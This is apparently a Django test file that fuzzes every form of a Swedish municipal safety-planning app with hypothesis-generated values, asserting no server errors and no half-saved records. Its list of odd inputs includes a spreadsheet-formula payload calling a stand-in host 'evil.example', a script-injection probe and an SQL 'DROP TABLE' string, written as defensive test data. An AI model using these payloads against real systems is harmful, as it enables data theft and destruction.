"""Every form of the app, posted generated values: never a 500, never a half-saved record.

The forms are found from the URLconf: every URL of the app is either in FORMS (with the role
that uses it and the objects it needs) or in NOT_FORMS with a reason, so a new page fails
`test_every_url_is_classified` until someone decides. The fields are read from the page's own
HTML, so a field added to a form is posted too. Values come from hypothesis: empty, long,
control characters, odd Unicode, invalid dates, huge numbers. Each example runs in a
transaction that is rolled back, so examples do not build on each other.

Runtime stays modest with the "ci" profile (a few examples per form); set
HYPOTHESIS_PROFILE=thorough for a longer hunt. Past 300 lines because the table of every URL
(FORMS, NOT_FORMS) belongs in one place: that is where a new page is classified.
"""

import datetime
import hashlib
import os
import re
from html.parser import HTMLParser
from http import HTTPStatus

from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from followup import services as followup_services
from followup.models import CouncilSurvey, Debrief, Decision, LogEntry, Meeting
from pitebra.models import Agreement, User
from pitebra.validators import FREE_TEXT_APPS, free_text_fields
from plans.models import ImplementationPlan, Indicator, RiskPeriod, SituationPicture, Source
from public import urls as public_urls

settings.register_profile(
    "ci",
    max_examples=3,
    deadline=None,
    database=None,
    suppress_health_check=list(HealthCheck),
)
settings.register_profile(
    "thorough", max_examples=60, deadline=None, suppress_health_check=list(HealthCheck)
)
PROFILE = os.environ.get("HYPOTHESIS_PROFILE", "ci")

MEMBER, COORDINATOR = "kommun", "samordnare"

# url name -> (role, kwargs from the world). Every form a user types into or clicks.
FORMS = {
    "agreement-cycle-edit": (COORDINATOR, lambda w: {"agreement_pk": w.a, "year": 2025}),
    "agreement-copy": (COORDINATOR, lambda w: {"agreement_pk": w.a}),
    "public-settings": (COORDINATOR, lambda w: {"agreement_pk": w.a}),
    "calendar-reset": (MEMBER, lambda w: {}),
    "reminder-settings": (MEMBER, lambda w: {}),
    "set_language": (MEMBER, lambda w: {}),
    "login": (None, lambda w: {}),
    "password_change": (MEMBER, lambda w: {}),
    "password_reset": (None, lambda w: {}),
    "plans:indicator-create": (MEMBER, lambda w: {"agreement_pk": w.a}),
    "plans:indicator-detail": (MEMBER, lambda w: {"agreement_pk": w.a, "pk": w.indicator}),
    "plans:indicator-edit": (MEMBER, lambda w: {"agreement_pk": w.a, "pk": w.indicator}),
    "plans:import-csv": (MEMBER, lambda w: {"agreement_pk": w.a}),
    "plans:import-kolada": (MEMBER, lambda w: {"agreement_pk": w.a}),
    "plans:document-list": (MEMBER, lambda w: {"agreement_pk": w.a}),
    "plans:source-list": (MEMBER, lambda w: {"agreement_pk": w.a}),
    "plans:source-edit": (MEMBER, lambda w: {"agreement_pk": w.a, "pk": w.source}),
    "plans:situation-start": (MEMBER, lambda w: {"agreement_pk": w.a, "year": 2026}),
    "security:invite": (COORDINATOR, lambda w: {"agreement_pk": w.a}),
    "followup:debrief": (
        MEMBER,
        lambda w: {"agreement_pk": w.a, "year": 2024, "pk": w.period},
    ),
    "followup:debrief-proposal": (
        MEMBER,
        lambda w: {"agreement_pk": w.a, "year": 2024, "pk": w.period, "number": 1},
    ),
    "plans:situation-edit": (MEMBER, lambda w: {"agreement_pk": w.a, "pk": w.picture}),
    "plans:situation-approve": (MEMBER, lambda w: {"agreement_pk": w.a, "pk": w.picture}),
    "plans:situation-new-version": (MEMBER, lambda w: {"agreement_pk": w.a, "pk": w.agreed}),
    "plans:problem-create": (MEMBER, lambda w: {"agreement_pk": w.a, "picture_pk": w.picture}),
    "plans:problem-edit": (MEMBER, lambda w: {"agreement_pk": w.a, "pk": w.problem}),
    "plans:problem-delete": (MEMBER, lambda w: {"agreement_pk": w.a, "pk": w.problem}),
    "plans:plan-create": (MEMBER, lambda w: {"agreement_pk": w.a}),
    "plans:plan-detail": (MEMBER, lambda w: {"agreement_pk": w.a, "year": 2025}),
    "plans:plan-adopt": (COORDINATOR, lambda w: {"agreement_pk": w.a, "year": 2025}),
    "plans:plan-roll-over": (COORDINATOR, lambda w: {"agreement_pk": w.a, "year": 2025}),
    "plans:plan-as-of": (MEMBER, lambda w: {"agreement_pk": w.a, "year": 2025}),
    "plans:plan-import": (MEMBER, lambda w: {"agreement_pk": w.a, "year": 2025}),
    "plans:goal-create": (MEMBER, lambda w: {"agreement_pk": w.a, "year": 2025}),
    "plans:promise-create": (MEMBER, lambda w: {"agreement_pk": w.a, "year": 2025}),
    "plans:goal-edit": (MEMBER, lambda w: {"agreement_pk": w.a, "pk": w.goal}),
    "plans:strategy-create": (MEMBER, lambda w: {"agreement_pk": w.a, "goal_pk": w.goal}),
    "plans:strategy-edit": (MEMBER, lambda w: {"agreement_pk": w.a, "pk": w.strategy}),
    "plans:activity-create": (MEMBER, lambda w: {"agreement_pk": w.a, "strategy_pk": w.strategy}),
    "plans:activity-edit": (MEMBER, lambda w: {"agreement_pk": w.a, "pk": w.activity}),
    "plans:promise-edit": (MEMBER, lambda w: {"agreement_pk": w.a, "pk": w.promise}),
    "plans:item-move": (MEMBER, lambda w: {"agreement_pk": w.a, "kind": "goal", "pk": w.goal}),
    "plans:item-delete": (
        MEMBER,
        lambda w: {"agreement_pk": w.a, "kind": "activity", "pk": w.activity},
    ),
    "followup:log-create": (MEMBER, lambda w: {"agreement_pk": w.a}),
    "followup:log-delete": (MEMBER, lambda w: {"agreement_pk": w.a, "pk": w.log}),
    "followup:activity-status": (MEMBER, lambda w: {"agreement_pk": w.a, "pk": w.activity}),
    "followup:evaluation-edit": (MEMBER, lambda w: {"agreement_pk": w.a, "pk": w.activity}),
    "followup:meeting-create": (MEMBER, lambda w: {"agreement_pk": w.a}),
    "followup:meeting-detail": (MEMBER, lambda w: {"agreement_pk": w.a, "pk": w.meeting}),
    "followup:meeting-edit": (MEMBER, lambda w: {"agreement_pk": w.a, "pk": w.meeting}),
    "followup:decision-activity": (MEMBER, lambda w: {"agreement_pk": w.a, "pk": w.decision}),
    "followup:decision-delete": (MEMBER, lambda w: {"agreement_pk": w.a, "pk": w.decision}),
    "followup:council-start": (COORDINATOR, lambda w: {"agreement_pk": w.a, "year": 2023}),
    "followup:council-state": (COORDINATOR, lambda w: {"agreement_pk": w.a, "year": 2025}),
    "followup:council-answer": (MEMBER, lambda w: {"agreement_pk": w.a, "year": 2025}),
    "followup:council-question-create": (
        COORDINATOR,
        lambda w: {"agreement_pk": w.a, "year": 2025},
    ),
    "followup:council-question-edit": (
        COORDINATOR,
        lambda w: {"agreement_pk": w.a, "year": 2025, "pk": w.question},
    ),
    "followup:report-edit": (COORDINATOR, lambda w: {"agreement_pk": w.a, "year": 2025}),
}
# Forms shown on another page than the URL they post to: where to read their fields.
FORM_PAGES = {
    "agreement-cycle-edit": ("agreement-settings", lambda w: {"agreement_pk": w.a}),
    "calendar-reset": ("calendar", lambda w: {}),
    "set_language": ("home", lambda w: {}),
    "followup:activity-status": (
        "followup:activity-followup",
        lambda w: {"agreement_pk": w.a, "pk": w.activity},
    ),
    "followup:council-start": (
        "followup:council-year",
        lambda w: {"agreement_pk": w.a, "year": 2023},
    ),
    "followup:council-state": (
        "followup:council-year",
        lambda w: {"agreement_pk": w.a, "year": 2025},
    ),
    "followup:decision-delete": (
        "followup:meeting-detail",
        lambda w: {"agreement_pk": w.a, "pk": w.meeting},
    ),
    "plans:item-move": ("plans:plan-detail", lambda w: {"agreement_pk": w.a, "year": 2025}),
    "plans:plan-adopt": ("plans:plan-detail", lambda w: {"agreement_pk": w.a, "year": 2025}),
    "plans:plan-roll-over": ("plans:plan-detail", lambda w: {"agreement_pk": w.a, "year": 2025}),
    "plans:plan-create": ("plans:plan-list", lambda w: {"agreement_pk": w.a}),
    "plans:problem-delete": (
        "plans:situation-detail",
        lambda w: {"agreement_pk": w.a, "pk": w.picture},
    ),
    "plans:situation-approve": (
        "plans:situation-detail",
        lambda w: {"agreement_pk": w.a, "pk": w.picture},
    ),
    "plans:situation-new-version": (
        "plans:situation-detail",
        lambda w: {"agreement_pk": w.a, "pk": w.agreed},
    ),
    "plans:situation-start": ("plans:situation-list", lambda w: {"agreement_pk": w.a}),
}
# Pages that take no input, with the reason they are left out.
NOT_FORMS = {
    "home": "a page to read",
    "agreement-detail": "a page to read",
    "agreement-settings": "a page to read; its forms post to agreement-cycle-edit",
    "calendar": "a page to read",
    "calendar-feed": "a download (tests/plans/test_safe_exports.py)",
    "log-work": "a page to read",
    "accessibility": "a page to read",
    "agreement-export": "a download (tests/pitebra/test_transfer.py)",
    "healthz": "for load balancers",
    "logout": "no input",
    "password_change_done": "a page to read",
    "password_reset_done": "a page to read",
    "password_reset_confirm": "needs a token from e-mail; Django's own form",
    "password_reset_complete": "a page to read",
    "plans:indicator-list": "a page to read",
    "plans:document-download": "a download",
    "plans:situation-list": "a page to read",
    "plans:situation-detail": "a page to read; its buttons are their own URLs",
    "plans:plan-list": "a page to read",
    "plans:plan-compare": "a page to read",
    "plans:plan-timeline": "a page to read",
    "plans:plan-export-xlsx": "a download (tests/plans/test_safe_exports.py)",
    "plans:plan-export-csv": "a download (tests/plans/test_safe_exports.py)",
    "plans:activity-detail": "a page to read",
    "followup:activity-followup": "a page to read; its forms are their own URLs",
    "followup:followup-index": "a page to read",
    "followup:followup-year": "a page to read",
    "followup:evaluation-list": "a page to read",
    "followup:meeting-list": "a page to read",
    "followup:council-year": "a page to read",
    "followup:report-list": "a page to read",
    "followup:report-preview": "a page to read",
    "followup:report-preview-document": "a page to read (the draft in the preview's frame)",
    "followup:report-draft-pdf": "a download",
    "followup:report-draft": "a page to read (the draft being made)",
    "plans:plan-import-job": "a page to read (the import being saved)",
    "followup:report-draft-file": "a download",
    "followup:report-publish": (
        "a confirmation page (a correction adds one field, its reason); renders a PDF "
        "(test_report.py, test_report_figures.py)"
    ),
    "followup:report-download": "a download",
    "security:two-factor": "a one-time code checked against the device (tests/security)",
    "security:two-factor-verify": "a one-time code checked against the device (tests/security)",
    "security:backup-codes": "a button without fields (tests/security)",
    "security:logout-everywhere": "a button without fields (tests/security)",
    "security:working-group": "a page to read; its buttons are their own URLs",
    "security:lift-lockout": "a hidden name or address (tests/security/test_lockout.py)",
    "security:reset-two-factor": "a button without fields (tests/security)",
    "security:require-two-factor": "a hidden yes/no (tests/security)",
    "security:audit": "a filter form read by GET (tests/security/test_audit.py)",
    "security:my-data": "a password or one-time code, then a download (tests/security)",
    "security:close-account": "a confirmation button (tests/pitebra/test_close_account.py)",
    "dataprotection:register": "a page to read",
    "dataprotection:register-download": "a download",
    "followup:report-archive": "a download (tests/followup/test_report_archive.py)",
    "followup:wheel": "a page to read (tests/followup/test_wheel.py)",
    "security:sign-on-start": "a redirect to the provider (tests/security/test_sign_on_oidc.py)",
    "security:sign-on-email": "an e-mail routed by domain (tests/security/test_sign_on_oidc.py)",
    "security:oidc-callback": "the provider's answer (tests/security/test_sign_on_oidc.py)",
    "security:saml-acs": "the IdP's signed assertion (tests/security/test_sign_on_saml.py)",
    "security:saml-metadata": "a download",
    "security:saml-sls": "the IdP's signed logout message (tests/security/test_sign_on_saml.py)",
    "security:sign-on-test": "the operator's test page (tests/security/test_sign_on_oidc.py)",
    "security:sign-on-test-start": "a redirect to a provider (tests/security/test_sign_on_oidc.py)",
}
# django-otp-webauthn's JSON endpoints for passkeys (tests/security/test_passkeys.py).
NOT_FORMS |= {
    f"otp_webauthn:{name}": "a passkey ceremony in JSON (tests/security/test_passkeys.py)"
    for name in (
        "credential-authentication-begin",
        "credential-authentication-complete",
        "credential-registration-begin",
        "credential-registration-complete",
        "js-i18n-catalog",
    )
}
# The public pages and open data: read-only, for anyone, under two prefixes (tests/public).
NOT_FORMS |= {
    f"{namespace}:{pattern.name}": "read-only, for anyone (tests/public)"
    for namespace in ("public", "offentligt")
    for pattern in public_urls.urlpatterns
}


def _url_names(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            if pattern.app_name == "admin":
                continue  # the admin is tested by tests/pitebra/test_admin*.py
            namespace = f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix
            yield from _url_names(pattern.url_patterns, namespace)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield prefix + pattern.name


def test_every_url_is_classified():
    names = set(_url_names(get_resolver().url_patterns))
    unclassified = names - set(FORMS) - set(NOT_FORMS)
    assert unclassified == set(), "add the new page to FORMS (or NOT_FORMS, with a reason)"
    assert set(FORMS) | set(NOT_FORMS) <= names, "remove pages that no longer exist"


class _FormFields(HTMLParser):
    """The named fields of a page's forms that submit to `action` with `method`."""

    def __init__(self, action, method):
        super().__init__()
        self.action, self.method = action, method
        self.fields, self._in_form, self._select = {}, False, None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "option" and self._select:
            self.fields[self._select][1].append(attrs.get("value", ""))
            return
        if tag == "form":
            target = attrs.get("action") or self.action
            self._in_form = (
                target.split("?")[0] == self.action
                and (attrs.get("method") or "get").lower() == self.method
            )
            return
        if not self._in_form or not attrs.get("name"):
            return
        name = attrs["name"]
        if name == "csrfmiddlewaretoken":
            return
        if tag == "select":
            self._select = name
            self.fields[name] = ("select", [], "multiple" in attrs)
        elif tag == "textarea":
            self.fields[name] = ("text", [], False)
        elif tag in ("input", "button"):
            kind = (attrs.get("type") or "text").lower()
            if kind in ("checkbox", "radio"):
                _kind, options, _many = self.fields.get(name, ("choice", [], kind == "checkbox"))
                options.append(attrs.get("value", "on"))
                self.fields[name] = ("choice", options, kind == "checkbox")
            elif kind in ("submit", "hidden") or tag == "button":
                self.fields[name] = ("fixed", [attrs.get("value", "")], False)
            else:
                self.fields[name] = (kind, [], False)

    def handle_endtag(self, tag):
        if tag == "form":
            self._in_form = False
        elif tag == "select":
            self._select = None

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)


ODD = [
    '=HYPERLINK("http://evil.example/?"&A1,"klick")',
    "811218-9876",
    "a\x0bb",
    "rad\r\nrad",
    "\r",
    "\u2028\u2029\x85",
    "\u202eevil",
    "\ufeff",
    "😀" * 5,
    "<script>alert(1)</script>",
    "'; DROP TABLE plans_activity; --",
    " ",
]
TEXT = st.one_of(
    st.just(""),
    st.sampled_from(ODD),
    st.text(max_size=40),
    st.text(alphabet=st.characters(max_codepoint=0x1F), max_size=5),
    st.builds(
        lambda s, n: s * n, st.sampled_from(["x", "å", "😀", "\u0301"]), st.integers(200, 20_000)
    ),
)
NUMBER = st.one_of(
    st.integers(-(10**40), 10**40).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
    st.sampled_from(["1e999", "NaN", "-0", "1,5", "١٢", "0x10", "99999999999999999999"]),
    TEXT,
)
DATE = st.one_of(
    st.dates().map(datetime.date.isoformat),
    st.sampled_from(["2024-02-30", "0000-00-00", "31/12/2024", "9999-12-31", "2024-13-01"]),
    TEXT,
)
FILE = st.one_of(
    st.binary(max_size=300),
    st.sampled_from([b"PK\x03\x04", b"[" * 5000, b"fel\n" * 500, b"%PDF-1.7\n"]),
)


def _strategy(kind, options, many):
    if kind == "fixed":
        return st.one_of(st.just(options[0]), st.none())
    if kind in ("select", "choice"):
        pick = st.sampled_from(options) if options else TEXT
        if many:
            return st.lists(st.one_of(pick, TEXT), max_size=3)
        return st.one_of(pick, pick, TEXT, st.none())
    if kind == "number":
        return st.one_of(NUMBER, st.none())
    if kind == "date":
        return st.one_of(DATE, st.none())
    if kind == "file":
        return st.one_of(FILE.map(lambda b: SimpleUploadedFile("fil.bin", b)), st.none())
    return st.one_of(TEXT, st.none())


class _World:
    def __init__(self):
        a = Agreement.objects.get(municipality__name="Piteå kommun", first_year=2023)
        self.a = a.pk
        plan = ImplementationPlan.objects.get(agreement=a, year=2025)
        goal = plan.goals.order_by("pk").first()
        strategy = goal.strategies.order_by("pk").first()
        activity = strategy.activities.order_by("pk").first()
        self.goal, self.strategy, self.activity = goal.pk, strategy.pk, activity.pk
        self.promise = plan.citizen_promises.order_by("pk").first().pk
        draft = SituationPicture.objects.get(agreement=a, year=2025)
        self.picture = draft.pk
        self.agreed = SituationPicture.objects.get(agreement=a, year=2024).pk
        self.problem = draft.problems.order_by("pk").first().pk
        self.indicator = Indicator.objects.filter(agreement=a).order_by("pk").first().pk
        self.source = Source.objects.filter(agreement=a).order_by("pk").first().pk
        meeting = Meeting.objects.filter(agreement=a).order_by("pk").first()
        self.meeting = meeting.pk
        self.decision = Decision.objects.filter(meeting__agreement=a).order_by("pk").first().pk
        member = User.objects.get(username=MEMBER)
        self.log = (
            LogEntry.objects.filter(activity__strategy__goal__plan__agreement=a)
            .order_by("pk")
            .first()
        )
        self.log.created_by = member
        self.log.save()
        self.log = self.log.pk
        survey = followup_services.council_survey_start(agreement=a, year=2025)
        survey.state = CouncilSurvey.State.OPEN
        survey.save()
        self.question = survey.questions.order_by("pk").first().pk
        # Valborg 2024, over and debriefed, with a proposal for the 2025 plan.
        self.period = RiskPeriod.objects.get(agreement=a, name="Valborg").pk
        Debrief.objects.create(period_id=self.period, year=2024, proposals="Fler nattvandrare")


def _fingerprint():
    """Every row of every model of the app, hashed per model: equal means nothing was written."""
    hashes = {}
    for label in FREE_TEXT_APPS:
        for model in apps.get_app_config(label).get_models():
            fields = [f.attname for f in model._meta.concrete_fields if f.attname != "last_login"]
            digest = hashlib.sha256()
            for row in model._default_manager.order_by("pk").values_list(*fields):
                # PostgreSQL gives binary fields as memoryview, whose repr is an address.
                row = [bytes(v) if isinstance(v, memoryview) else v for v in row]
                digest.update(repr(row).encode())
            hashes[model.__name__] = digest.hexdigest()
    return hashes


def _control_characters_stored():
    control = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\r]")
    found = []
    for label in FREE_TEXT_APPS:
        for model in apps.get_app_config(label).get_models():
            if model.__name__.startswith("Historical"):
                continue
            for field in free_text_fields(model):
                for value in model._default_manager.values_list(field.attname, flat=True):
                    if value and control.search(value):
                        found.append((model.__name__, field.name, value[:40]))
    return found


class _Rollback(Exception):
    pass


def test_generated_values_in_every_form_give_no_500_and_no_half_saved_record(demo):
    # The demo on its fixed day (the fixture), not on the clock's: the world below names years.
    world = _World()
    clients = {}
    for username in (MEMBER, COORDINATOR):
        clients[username] = Client()
        clients[username].force_login(User.objects.get(username=username))
    clients[None] = Client()
    assert _control_characters_stored() == []
    checked = []
    for name, (role, kwargs) in sorted(FORMS.items()):
        url = reverse(name, kwargs=kwargs(world))
        client = clients[role]
        method = "get" if name in ("plans:plan-detail", "plans:plan-as-of") else "post"
        page_name, page_kwargs = FORM_PAGES.get(name, (name, kwargs))
        page = client.get(reverse(page_name, kwargs=page_kwargs(world)))
        parser = _FormFields(url, method)
        if page.status_code == HTTPStatus.OK and page["Content-Type"].startswith("text/html"):
            parser.feed(page.content.decode())
        fields = parser.fields
        data_strategy = st.fixed_dictionaries(
            {field: _strategy(*spec) for field, spec in fields.items()}
        )
        _check_form(name, url, client, method, data_strategy, _fingerprint())
        checked.append((name, len(fields)))
    forms_with_fields = [name for name, count in checked if count]
    assert len(forms_with_fields) >= 40, checked  # the pages really rendered their forms


def _check_form(name, url, client, method, data_strategy, before):
    """`before`: the database as every example starts (each one is rolled back)."""

    @settings(settings.get_profile(PROFILE))
    @given(data=data_strategy)
    def run(data):
        data = {k: v for k, v in data.items() if v is not None}
        try:
            with transaction.atomic():
                response = getattr(client, method)(url, data)
                status = response.status_code
                assert status < HTTPStatus.INTERNAL_SERVER_ERROR, (name, data)
                if status < HTTPStatus.MULTIPLE_CHOICES or status >= HTTPStatus.BAD_REQUEST:
                    # Refused (or shown again with errors): nothing at all was written.
                    after = _fingerprint()
                    changed = sorted(m for m in after if after[m] != before[m])
                    assert changed == [], (name, status, data)
                else:
                    assert _control_characters_stored() == [], (name, data)
                raise _Rollback
        except _Rollback:
            pass

    run()
